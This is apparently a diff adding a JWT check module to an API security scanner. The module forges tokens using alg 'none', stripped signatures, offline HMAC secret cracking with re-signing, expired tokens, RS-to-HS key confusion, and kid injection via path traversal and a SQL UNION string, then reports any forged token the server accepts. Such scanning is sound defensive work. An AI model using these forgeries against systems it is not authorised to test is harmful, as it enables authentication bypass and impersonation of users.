@@ -1,0 +1,181 @@
+"""JWT attacks on an identity's own token, each proven by the server accepting a forged token.
+
+* ``alg: none`` in four spellings with the signature removed;
+* the original header with the signature stripped or altered;
+* the HMAC secret cracked **offline** against the shipped wordlist (no requests), then a token with a changed
+  claim re-signed with it and sent; with the secret known, an expired token is tried as well;
+* RS→HS confusion: when a public key or JWKS is discoverable on the target's origin, an HS256 token signed
+  with the PEM bytes of the public key;
+* ``kid`` injection: ``kid`` pointing at ``/dev/null`` (empty key) and a SQL ``UNION`` choosing the key.
+
+The reference request for all of them is the canary operation, which must refuse a garbage token first.
+"""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import hmac
+import json
+import time
+from importlib import resources
+from typing import Any
+
+from apishield.probe import rules
+from apishield.probe.checks._util import try_send
+from apishield.probe.client import Exchange
+from apishield.probe.engine import Context, Identity, check
+from apishield.probe.targets import Operation
+
+HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
+KEY_PATHS = ("/.well-known/jwks.json", "/jwks.json", "/.well-known/openid-configuration", "/api/jwks.json",
+             "/public.pem", "/api/public-key", "/.well-known/public.pem")
+
+
+def b64e(data: bytes) -> str:
+    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()
+
+
+def b64d(text: str) -> bytes:
+    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))
+
+
+def decode(token: str) -> tuple[dict[str, Any], dict[str, Any], str] | None:
+    parts = token.split(".")
+    if len(parts) != 3:
+        return None
+    try:
+        header, claims = json.loads(b64d(parts[0])), json.loads(b64d(parts[1]))
+    except (ValueError, UnicodeDecodeError):
+        return None
+    if not isinstance(header, dict) or not isinstance(claims, dict):
+        return None
+    return header, claims, parts[2]
+
+
+def encode(header: dict[str, Any], claims: dict[str, Any], key: bytes | None) -> str:
+    """Sign with HMAC (``key``) or leave the signature empty (``key`` None)."""
+    signing = b64e(json.dumps(header, separators=(",", ":")).encode()) + "." + b64e(
+        json.dumps(claims, separators=(",", ":")).encode())
+    if key is None:
+        return signing + "."
+    digest = HASHES.get(str(header.get("alg")), hashlib.sha256)
+    return signing + "." + b64e(hmac.new(key, signing.encode(), digest).digest())
+
+
+def wordlist() -> list[str]:
+    text = resources.files("apishield.probe").joinpath("data/jwt_secrets.txt").read_text(encoding="utf-8")
+    return [line.rstrip("\n") for line in text.splitlines() if line and not line.startswith("#")]
+
+
+def crack(token: str, words: list[str]) -> str | None:
+    """Offline: the word whose HMAC reproduces the token's signature, if any (no requests)."""
+    parts = token.split(".")
+    header = decode(token)
+    if header is None or header[0].get("alg") not in HASHES:
+        return None
+    digest = HASHES[str(header[0]["alg"])]
+    signing = f"{parts[0]}.{parts[1]}".encode()
+    want = b64d(parts[2])
+    for word in words:
+        if hmac.compare_digest(hmac.new(word.encode(), signing, digest).digest(), want):
+            return word
+    return None
+
+
+class Attempt:
+    def __init__(self, ctx: Context, op: Operation, path: str, identity: Identity) -> None:
+        self.ctx, self.op, self.path, self.identity = ctx, op, path, identity
+        self.header_name = next(iter(identity.headers), "Authorization")
+        self.prefix = "Bearer " if identity.headers.get(self.header_name, "").startswith("Bearer ") else ""
+
+    async def __call__(self, token: str) -> Exchange | None:
+        return await try_send(self.ctx, "GET", self.path, op=self.op,
+                              headers={self.header_name: self.prefix + token})
+
+
+async def _public_key(ctx: Context) -> bytes | None:
+    for path in KEY_PATHS:
+        ex = await try_send(ctx, "GET", path)
+        if ex is None or not ex.ok:
+            continue
+        if b"-----BEGIN PUBLIC KEY-----" in ex.body or b"-----BEGIN RSA PUBLIC KEY-----" in ex.body:
+            start = ex.body.index(b"-----BEGIN")
+            end = ex.body.index(b"-----", ex.body.index(b"-----END") + 8) + 5
+            return ex.body[start:end] + b"\n"
+        data = ex.json()
+        if isinstance(data, dict) and isinstance(data.get("jwks_uri"), str) and ctx.client.in_scope(
+                ctx.client.url_for(data["jwks_uri"])):
+            ex = await try_send(ctx, "GET", data["jwks_uri"])
+            data = ex.json() if ex is not None else None
+        keys = data.get("keys") if isinstance(data, dict) else None
+        if isinstance(keys, list):
+            from joserfc.jwk import RSAKey
+
+            for jwk in keys:
+                if isinstance(jwk, dict) and jwk.get("kty") == "RSA":
+                    try:
+                        return bytes(RSAKey.import_key({k: jwk[k] for k in ("kty", "n", "e")}).as_pem(private=False))
+                    except (ValueError, KeyError):
+                        continue
+    return None
+
+
+@check("jwt", rules=(rules.JWT_NONE, rules.JWT_NOSIG, rules.JWT_WEAK, rules.JWT_EXPIRED, rules.JWT_CONFUSION,
+                     rules.JWT_KID), weight=4)
+async def jwt(ctx: Context) -> None:
+    """alg none, stripped signature, weak HMAC secret (offline), expired, RS→HS confusion, kid injection."""
+    identity = next((i for i in ctx.users if i.token and decode(i.token)), None)
+    op = ctx.canary
+    if identity is None or identity.token is None or op is None:
+        return
+    parsed = decode(identity.token)
+    assert parsed is not None
+    header, claims, signature = parsed
+    send = Attempt(ctx, op, op.path, identity)
+    parts = identity.token.split(".")
+    garbage = await send(parts[0] + "." + parts[1] + "." + b64e(b"apishield-not-a-signature"))
+    if garbage is None or garbage.ok:
+        if garbage is not None:
+            ctx.report(rules.JWT_NOSIG, "a token with an altered signature was accepted", garbage, op=op,
+                       parameter=send.header_name)
+        return
+    stripped = await send(parts[0] + "." + parts[1] + ".")
+    if stripped is not None and stripped.ok:
+        ctx.report(rules.JWT_NOSIG, "the token with its signature stripped was accepted", stripped, op=op,
+                   parameter=send.header_name)
+    for alg in ("none", "None", "NONE", "nOnE"):
+        ex = await send(encode({**header, "alg": alg}, claims, None))
+        if ex is not None and ex.ok:
+            ctx.report(rules.JWT_NONE, f"a token with alg {alg!r} and no signature was accepted", ex, op=op,
+                       parameter=send.header_name)
+            break
+    alg = str(header.get("alg", ""))
+    if alg in HASHES:
+        secret = crack(identity.token, wordlist())
+        if secret is not None:
+            forged_claims = {**claims, "apishield": "forged", "iat": int(time.time())}
+            ex = await send(encode(header, forged_claims, secret.encode()))
+            if ex is not None and ex.ok:
+                ctx.report(rules.JWT_WEAK, f"the {alg} secret is in the wordlist ({secret!r}); a token re-signed with "
+                           "it and an added claim was accepted", ex, op=op, parameter=send.header_name)
+                old = {**claims, "iat": int(time.time()) - 7200, "exp": int(time.time()) - 3600}
+                expired = await send(encode(header, old, secret.encode()))
+                if expired is not None and expired.ok:
+                    ctx.report(rules.JWT_EXPIRED, "a token that expired an hour ago was accepted", expired,
+                               op=op, parameter=send.header_name)
+    elif alg.startswith(("RS", "PS")):
+        pem = await _public_key(ctx)
+        if pem is not None:
+            for key in (pem, pem.rstrip(b"\n")):
+                ex = await send(encode({**header, "alg": "HS256"}, claims, key))
+                if ex is not None and ex.ok:
+                    ctx.report(rules.JWT_CONFUSION, "an HS256 token signed with the server's public RSA key was "
+                               "accepted", ex, op=op, parameter=send.header_name)
+                    break
+    for kid, key in (("../../../../../../../../dev/null", b""), ("' UNION SELECT 'apishield'-- ", b"apishield")):
+        ex = await send(encode({**header, "alg": "HS256", "kid": kid}, claims, key))
+        if ex is not None and ex.ok:
+            ctx.report(rules.JWT_KID, f"a token with kid {kid!r} signed with the key that kid selects was accepted",
+                       ex, op=op, parameter="kid")
+            break
